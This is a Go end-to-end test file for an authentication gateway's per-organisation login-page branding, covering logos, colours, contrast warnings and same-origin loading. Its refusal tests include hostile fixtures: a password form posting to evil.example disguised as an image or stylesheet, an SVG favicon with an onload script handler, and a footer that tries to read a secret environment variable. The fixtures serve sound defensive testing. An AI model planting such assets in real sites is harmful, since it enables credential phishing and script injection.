package e2e

import (
	"context"
	"errors"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

const brandingConfig = preamble + `routes:
  - id: app
    host: app.localhost
    upstream: {{UPSTREAM}}
orgs:
  - slug: acme
    name: Acme Corp
    email_domains: [acme.example]
    login_domain: login.acme.localhost
    connection: { type: password }
    branding:
      logo: {{DIR}}/acme-logo.svg
      favicon: {{DIR}}/acme-icon.svg
      css: {{DIR}}/acme.css
      colors: { primary: "#b00020", background: "#fff4f4", text: "#1a1a1a" }
      texts: { heading: "Welcome to Acme", intro: "Use your Acme account.", footer: "Acme IT helpdesk: extension 4242" }
  - slug: acme-labs
    name: Acme Labs
    parent: acme
    email_domains: [labs.acme.example]
  - slug: globex
    name: Globex
    email_domains: [globex.example]
    login_domain: login.globex.localhost
    connection: { type: password }
    branding:
      logo: {{DIR}}/globex-logo.svg
      colors: { primary: "#0a5c36", background: "#eef7f1" }
      texts: { heading: "Globex sign-in" }
`

func brandingFiles(t *testing.T) string {
	dir := t.TempDir()
	for name, body := range map[string]string{
		"acme-logo.svg":   `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><rect width="120" height="40" fill="#b00020"/><text x="10" y="27" fill="#fff">ACME</text></svg>`,
		"acme-icon.svg":   `<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"><circle cx="8" cy="8" r="8" fill="#b00020"/></svg>`,
		"acme.css":        `.card { border-top: 6px solid var(--accent); }`,
		"globex-logo.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><rect width="120" height="40" fill="#0a5c36"/><text x="10" y="27" fill="#fff">GLOBEX</text></svg>`,
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

var logoRE = regexp.MustCompile(`<img class="logo" src="(/\.gatehouse/assets/b/[0-9a-f]{32}\.svg)"`)

// Each org's pages wear its own branding, served by Gatehouse itself and
// cached by content; a sub-org wears its parent's.
func TestBranding(t *testing.T) {
	dir := brandingFiles(t)
	up := newUpstream(t)
	g := start(t, strings.NewReplacer("{{DIR}}", dir, "{{UPSTREAM}}", up.URL).Replace(brandingConfig))
	b := g.browser(t)
	acme := b.get(g.url("login.acme.localhost", "/.gatehouse/login"))
	globex := b.get(g.url("login.globex.localhost", "/.gatehouse/login"))
	for _, want := range []string{"Welcome to Acme", "Use your Acme account.", "Acme IT helpdesk: extension 4242", `rel="icon" href="/.gatehouse/assets/b/`} {
		if !strings.Contains(acme.body, want) {
			t.Errorf("acme's page lacks %q", want)
		}
	}
	if !strings.Contains(globex.body, "Globex sign-in") || strings.Contains(globex.body, "Acme") {
		t.Errorf("globex's page:\n%s", globex.body)
	}
	acmeLogo, globexLogo := field(t, logoRE, acme.body), field(t, logoRE, globex.body)
	if acmeLogo == globexLogo {
		t.Fatal("both orgs show the same logo")
	}
	// The logo is served by Gatehouse, cached by content.
	logo := b.get(g.url("login.acme.localhost", acmeLogo))
	if logo.status != 200 || !strings.Contains(logo.body, "ACME") || logo.header.Get("Content-Type") != "image/svg+xml" ||
		!strings.Contains(logo.header.Get("Cache-Control"), "immutable") {
		t.Fatalf("logo: %d %v", logo.status, logo.header)
	}
	req, _ := http.NewRequest("GET", g.url("login.acme.localhost", acmeLogo), nil)
	req.Header.Set("If-None-Match", logo.header.Get("ETag"))
	if p := b.do(req); p.status != http.StatusNotModified {
		t.Fatalf("conditional logo: %d", p.status)
	}
	css := regexp.MustCompile(`<link rel="stylesheet" href="(/\.gatehouse/assets/b/[0-9a-f]{32}\.css)">`)
	sheet := b.get(g.url("login.acme.localhost", field(t, css, acme.body)))
	if !strings.Contains(sheet.body, "--accent: #b00020") || !strings.Contains(sheet.body, "border-top: 6px") {
		t.Fatalf("acme's stylesheet:\n%s", sheet.body)
	}
	// A sub-org without branding wears its parent's.
	labs := b.get(g.url("auth.localhost", "/.gatehouse/login?org=acme-labs"))
	if field(t, logoRE, labs.body) != acmeLogo {
		t.Fatal("acme-labs does not show acme's logo")
	}
	// The shared sign-in is Gatehouse's own.
	if shared := b.get(g.url("auth.localhost", "/.gatehouse/login")); logoRE.MatchString(shared.body) {
		t.Fatal("the shared sign-in shows an org's logo")
	}
}

// Colors that fail WCAG AA contrast are reported when the branding is
// saved (here: loaded from the config), without refusing it.
func TestBrandingContrastWarning(t *testing.T) {
	dir := brandingFiles(t)
	cfg := strings.NewReplacer("{{DIR}}", dir, "{{UPSTREAM}}", "http://127.0.0.1:1", "{{PORT}}", "8080", "{{OPS}}", "127.0.0.1:9090", "{{DATA}}", t.TempDir(),
		`primary: "#0a5c36", background: "#eef7f1"`, `primary: "#ffd700", background: "#eef7f1", text: "#aaaaaa"`).Replace(brandingConfig)
	path := filepath.Join(t.TempDir(), "g.yaml")
	os.WriteFile(path, []byte(cfg), 0o600)
	out, err := exec.Command(binary, "config", "validate", path).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "orgs[2].branding.colors.text: text on the white card has a contrast of") ||
		!strings.Contains(string(out), "orgs[2].branding.colors.primary: white button text on primary has a contrast of") || !strings.Contains(string(out), "WCAG AA") {
		t.Fatalf("validate: %v\n%s", err, out)
	}
}

// Two orgs' login pages in Chromium: different logos, colors and texts,
// and nothing loaded from another origin. Screenshots go to artifacts.
func TestBrowserBranding(t *testing.T) {
	exe := chromium(t)
	dir := brandingFiles(t)
	up := newUpstream(t)
	g := start(t, strings.NewReplacer("{{DIR}}", dir, "{{UPSTREAM}}", up.URL).Replace(brandingConfig))
	ctx, requests := chrome(t, exe)
	arts := artifacts(t)
	type look struct{ logo, bg, button, heading string }
	visit := func(host, shotName string) look {
		t.Helper()
		u := g.url(host, "/.gatehouse/login")
		if err := chromedp.Do(ctx, chromedp.Navigate(u), chromedp.WaitVisible(chromedp.CSS("img.logo"))); err != nil {
			t.Fatalf("%s: %v", u, err)
		}
		// The logo must actually have loaded (CSP and the asset route).
		ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.querySelector("img.logo").complete && document.querySelector("img.logo").naturalWidth > 0`))
		if err != nil || !ok {
			t.Fatalf("%s: logo not loaded (%v)", host, err)
		}
		get := func(expr string) string {
			v, err := chromedp.Run(ctx, chromedp.Evaluate[string](expr))
			if err != nil {
				t.Fatalf("%s: %v", expr, err)
			}
			return v
		}
		l := look{
			logo:    get(`document.querySelector("img.logo").getAttribute("src")`),
			bg:      get(`getComputedStyle(document.body).backgroundColor`),
			button:  get(`getComputedStyle(document.querySelector("button")).backgroundColor`),
			heading: get(`document.querySelector("h1").innerText`),
		}
		buf, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
		if err != nil {
			t.Fatal(err)
		}
		os.WriteFile(filepath.Join(arts, shotName+".png"), buf, 0o644)
		return l
	}
	acme := visit("login.acme.localhost", "branding-acme")
	globex := visit("login.globex.localhost", "branding-globex")
	if acme.logo == globex.logo || acme.bg == globex.bg || acme.button == globex.button || acme.heading == globex.heading {
		t.Fatalf("the two orgs look alike: %+v vs %+v", acme, globex)
	}
	if acme.button != "rgb(176, 0, 32)" || acme.bg != "rgb(255, 244, 244)" || acme.heading != "Welcome to Acme" {
		t.Fatalf("acme: %+v", acme)
	}
	if globex.button != "rgb(10, 92, 54)" || globex.heading != "Globex sign-in" {
		t.Fatalf("globex: %+v", globex)
	}
	for _, r := range requests() {
		u, err := url.Parse(r)
		if err != nil || !strings.HasSuffix(u.Hostname(), "localhost") || u.Port() != g.port {
			t.Errorf("the page loaded %s, from another origin", r)
		}
	}
}

// Branding files are judged by their bytes, texts never read the
// environment, and relative file names are relative to the config file:
// `config validate` and `serve` refuse the same configs with the same
// key paths, from any working directory.
func TestBrandingRefusedAlikeByValidateAndServe(t *testing.T) {
	const page = "<!doctype html><html><body><form action=https://evil.example/><input type=password name=p></form></body></html>"
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"/>`
	const secret = "e2e-secret-value"
	base := strings.NewReplacer("{{UPSTREAM}}", "http://127.0.0.1:9", "{{PORT}}", freePort(t), "{{OPS}}", "127.0.0.1:"+freePort(t)).Replace(`
public_url: http://auth.localhost:{{PORT}}
listen: 127.0.0.1:{{PORT}}
ops_listen: {{OPS}}
store:
  badger: { path: data }
orgs:
  - slug: acme
    name: Acme Corp
    connection: { type: password }
    branding:
`)
	tests := []struct {
		name, branding string
		files          map[string]string
		want           string // the refusal, key path first
	}{
		{"an HTML page named .png", "      logo: brand/logo.png\n", map[string]string{"brand/logo.png": page},
			`orgs[0].branding.logo: brandasset: "DIR/brand/logo.png" is not a PNG image`},
		{"a font that is not a font", "      font: brand/inter.woff2\n", map[string]string{"brand/inter.woff2": "just some words, no font here"},
			`orgs[0].branding.font: brandasset: "DIR/brand/inter.woff2" is not a WOFF2 font`},
		{"an HTML page named .css", "      css: extra.css\n", map[string]string{"extra.css": page},
			`orgs[0].branding.css: brandasset: "DIR/extra.css" is not a CSS file`},
		{"an SVG favicon with a script", "      favicon: icon.svg\n", map[string]string{"icon.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`},
			`orgs[0].branding.favicon: brandasset: "DIR/icon.svg" is not an SVG image (it has an event handler (onload)`},
		{"a file only in the working directory", "      logo: cwd-only.svg\n", nil,
			`orgs[0].branding.logo: file "DIR/cwd-only.svg" does not exist`},
		{"a footer reading the environment", "      logo: logo.svg\n      texts: { footer: \"Support: ${GATEHOUSE_E2E_SECRET}\" }\n", map[string]string{"logo.svg": svg},
			`orgs[0].branding.texts.footer: environment variable reference "${GATEHOUSE_E2E_SECRET}" is not expanded here`},
	}
	// Started from a folder of its own, where a file of the wanted name
	// exists: the config's folder must be where names are looked up.
	cwd := t.TempDir()
	os.WriteFile(filepath.Join(cwd, "cwd-only.svg"), []byte(svg), 0o644)
	env := append(os.Environ(), "GATEHOUSE_E2E_SECRET="+secret)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, body := range tt.files {
				os.MkdirAll(filepath.Join(dir, filepath.Dir(name)), 0o755)
				if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			path := filepath.Join(dir, "gatehouse.yaml")
			if err := os.WriteFile(path, []byte(base+tt.branding), 0o600); err != nil {
				t.Fatal(err)
			}
			want := strings.ReplaceAll(tt.want, "DIR", dir)
			for _, args := range [][]string{{"config", "validate", path}, {"serve", "--config", path}} {
				ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
				cmd := exec.CommandContext(ctx, binary, args...)
				cmd.Dir, cmd.Env = cwd, env
				out, err := cmd.CombinedOutput()
				cancel()
				var exit *exec.ExitError
				if !errors.As(err, &exit) || exit.ExitCode() != 1 || !strings.Contains(string(out), want) {
					t.Errorf("%s: %v, want exit 1 with %q:\n%s", args[0], err, want, out)
				}
				if strings.Contains(string(out), secret) {
					t.Errorf("%s printed the secret:\n%s", args[0], out)
				}
			}
		})
	}
	// The same names beside the config, valid: accepted from elsewhere.
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "brand"), 0o755)
	os.WriteFile(filepath.Join(dir, "brand", "logo.svg"), []byte(svg), 0o644)
	path := filepath.Join(dir, "gatehouse.yaml")
	os.WriteFile(path, []byte(base+"      logo: brand/logo.svg\n      texts: { footer: \"Costs $${PRICE}\" }\n"), 0o600)
	cmd := exec.Command(binary, "config", "validate", path)
	cmd.Dir = cwd
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("validate: %v\n%s", err, out)
	}
}

// The vanity-domains example validates from any folder: its branding
// files are named relative to it.
func TestExampleBrandingFromAnotherFolder(t *testing.T) {
	abs, err := filepath.Abs("../examples/vanity-domains/gatehouse.yaml")
	if err != nil {
		t.Fatal(err)
	}
	for _, dir := range []string{t.TempDir(), "..", "/"} {
		cmd := exec.Command(binary, "config", "validate", abs)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil || !strings.HasSuffix(string(out), ": ok\n") {
			t.Errorf("from %s: %v\n%s", dir, err, out)
		}
	}
}
